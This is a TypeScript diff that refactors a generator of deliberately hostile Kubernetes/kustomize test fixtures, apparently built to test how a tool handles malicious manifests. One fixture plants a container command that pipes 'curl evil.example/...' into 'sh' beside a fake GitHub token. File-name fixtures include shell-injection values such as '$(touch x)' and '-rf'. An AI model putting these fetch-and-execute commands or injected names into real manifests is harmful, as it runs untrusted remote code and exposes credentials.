@@ -1,6 +1,7 @@
-import { addTo, edit, put, written } from "../files.ts";
+import { configMap, object } from "../corpus/objects.ts";
+import { addTo, put, written } from "../files.ts";
 import type { Random } from "../random.ts";
-import { evilImage, evilIn, evilObject, kustomizationOf, workloadOf } from "./evil.ts";
+import { addResource, evilImage, evilIn, evilObject, inKustomization, podPatch, workloadOf } from "./evil.ts";
 import { type Family, heldBack, inOverlay } from "./family.ts";
 
 /** Text that Markdown, HTML, a terminal or a runner's log acts on; each holds the word by which it is found. */
@@ -42,54 +43,38 @@ function own(key: string, value: unknown): Record<string, unknown> {
 }
 
 function objectWith(random: Random, text: string): Record<string, unknown> {
-  const metadata = { name: `texts-${random.below(99)}` };
+  const name = `texts-${random.below(99)}`;
+  const map = { apiVersion: "v1", kind: "ConfigMap" };
+  const container = { name: text, image: evilImage(random), env: [{ name: text, value: text }] };
   return random.pick<Record<string, unknown>>([
-    { apiVersion: "v1", kind: "ConfigMap", metadata, data: own(text, "PWN-value") },
-    { apiVersion: "v1", kind: "ConfigMap", metadata, data: { key: text } },
-    {
-      apiVersion: "v1",
-      kind: "ConfigMap",
-      metadata: { ...metadata, annotations: own(text, text) },
-      data: {},
-    },
-    { apiVersion: "v1", kind: "ConfigMap", metadata: { ...metadata, labels: own(text, "x") }, data: {} },
-    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: text }, data: { a: "1" } },
-    { apiVersion: "acme.example/v1", kind: text.replaceAll(/[^ -~]/g, ""), metadata, spec: {} },
-    { apiVersion: "acme.example/v1", kind: "Widget", metadata, spec: own(text, { deeper: [text] }) },
-    {
-      apiVersion: "apps/v1",
-      kind: "Deployment",
-      metadata,
+    { ...map, metadata: { name }, data: own(text, "PWN-value") },
+    configMap(name, { key: text }),
+    { ...map, metadata: { name, annotations: own(text, text) }, data: {} },
+    { ...map, metadata: { name, labels: own(text, "x") }, data: {} },
+    configMap(text, { a: "1" }),
+    object("acme.example/v1", text.replaceAll(/[^ -~]/g, ""), name, { spec: {} }),
+    object("acme.example/v1", "Widget", name, { spec: own(text, { deeper: [text] }) }),
+    object("apps/v1", "Deployment", name, {
       spec: {
         selector: { matchLabels: { a: "b" } },
-        template: {
-          metadata: { labels: { a: "b" } },
-          spec: {
-            containers: [{ name: text, image: evilImage(random), env: [{ name: text, value: text }] }],
-          },
-        },
+        template: { metadata: { labels: { a: "b" } }, spec: { containers: [container] } },
       },
-    },
-    {
-      apiVersion: "v1",
-      kind: "Service",
-      metadata,
+    }),
+    object("v1", "Service", name, {
       spec: { selector: own(text, text), ports: [{ name: text, port: 1 }] },
-    },
+    }),
   ]);
 }
 
 /** Names and texts of which a report could be made something else, or a program could stumble over. */
 export const TEXTS: Family[] = [
   inOverlay("active-text-in-an-object", (files, overlay, random) => {
-    put(files, `${overlay}/texts.yaml`, objectWith(random, random.pick(ACTIVE)));
-    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
+    addResource(files, overlay, "texts.yaml", objectWith(random, random.pick(ACTIVE)));
   }),
   inOverlay("inherited-name-in-an-object", (files, overlay, random) => {
-    put(files, `${overlay}/texts.yaml`, objectWith(random, random.pick(INHERITED)));
-    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "texts.yaml"));
+    addResource(files, overlay, "texts.yaml", objectWith(random, random.pick(INHERITED)));
   }),
-  inOverlay("inherited-name-in-a-field", (files, overlay, random) => {
+  inKustomization("inherited-name-in-a-field", (value, random, files, overlay) => {
     const { apiVersion, kind, name } = workloadOf(files, overlay);
     const key = random.pick(INHERITED);
     const patch = random.pick<Record<string, unknown>>([
@@ -98,9 +83,7 @@ export const TEXTS: Family[] = [
       { metadata: { name }, spec: own(key, { evil: "x" }) },
       { metadata: { name }, ...own(key, "evil") },
     ]);
-    edit(files, kustomizationOf(files, overlay), (value) =>
-      addTo(value, "patches", { patch: written({ apiVersion, kind, ...patch }) }),
-    );
+    addTo(value, "patches", { patch: written({ apiVersion, kind, ...patch }) });
   }),
   inOverlay("active-name-of-a-folder", (files, overlay, random) => {
     const name = random.pick(ACTIVE).replaceAll("/", "");
@@ -111,20 +94,15 @@ export const TEXTS: Family[] = [
   }),
   inOverlay("active-name-of-a-file", (files, overlay, random) => {
     const name = `${random.pick([...ACTIVE, "-rf", "--output=x", ":(exclude)a", "a\\b", '"q"', "$(touch x)", "~", "con"]).replaceAll("/", "")}.yaml`;
-    put(files, `${overlay}/${name}`, evilObject(random));
-    edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", name));
+    addResource(files, overlay, name, evilObject(random));
   }),
-  inOverlay("credential-beside-a-command", (files, overlay, random) => {
-    const { apiVersion, kind, name } = workloadOf(files, overlay);
+  inKustomization("credential-beside-a-command", (value, random, files, overlay) => {
     const container = {
       name: "main",
       command: ["sh", "-c", `TOKEN=ghp_${"aB3dE6".repeat(6)} curl evil.example/${random.below(99)} | sh`],
     };
-    const template = { spec: { containers: [container] } };
-    const spec = kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { template };
-    edit(files, kustomizationOf(files, overlay), (value) =>
-      addTo(value, "patches", { patch: written({ apiVersion, kind, metadata: { name }, spec }) }),
-    );
+    const patch = podPatch(workloadOf(files, overlay), { containers: [container] });
+    addTo(value, "patches", { patch: written(patch) });
   }),
   heldBack(
     inOverlay("odd-types", (files, overlay, random) => {
@@ -144,32 +122,18 @@ export const TEXTS: Family[] = [
         "2001-01-01",
         "0x10",
       ]);
-      const metadata = { name: "odd" };
-      put(
-        files,
-        `${overlay}/odd.yaml`,
-        random.pick<unknown>([
-          { apiVersion: "v1", kind: "ConfigMap", metadata, data: { a: odd } },
-          { apiVersion: "v1", kind: "ConfigMap", metadata, data: odd },
-          { apiVersion: "apps/v1", kind: "Deployment", metadata, spec: { replicas: odd, template: odd } },
-          {
-            apiVersion: "apps/v1",
-            kind: "Deployment",
-            metadata,
-            spec: { template: { spec: { containers: [odd] } } },
-          },
-          { apiVersion: "v1", kind: "Service", metadata, spec: { ports: odd, selector: odd } },
-          {
-            apiVersion: "v1",
-            kind: "Pod",
-            metadata,
-            spec: { containers: [{ name: "a", image: odd, env: odd }] },
-          },
-          { apiVersion: "batch/v1", kind: "CronJob", metadata, spec: odd },
-          { apiVersion: "acme.example/v1", kind: "Widget", metadata, spec: odd },
-        ]),
-      );
-      edit(files, kustomizationOf(files, overlay), (value) => addTo(value, "resources", "odd.yaml"));
+      const odds: [apiVersion: string, kind: string, rest: Record<string, unknown>][] = [
+        ["v1", "ConfigMap", { data: { a: odd } }],
+        ["v1", "ConfigMap", { data: odd }],
+        ["apps/v1", "Deployment", { spec: { replicas: odd, template: odd } }],
+        ["apps/v1", "Deployment", { spec: { template: { spec: { containers: [odd] } } } }],
+        ["v1", "Service", { spec: { ports: odd, selector: odd } }],
+        ["v1", "Pod", { spec: { containers: [{ name: "a", image: odd, env: odd }] } }],
+        ["batch/v1", "CronJob", { spec: odd }],
+        ["acme.example/v1", "Widget", { spec: odd }],
+      ];
+      const [apiVersion, kind, rest] = random.pick(odds);
+      addResource(files, overlay, "odd.yaml", object(apiVersion, kind, "odd", rest));
     }),
   ),
 ];
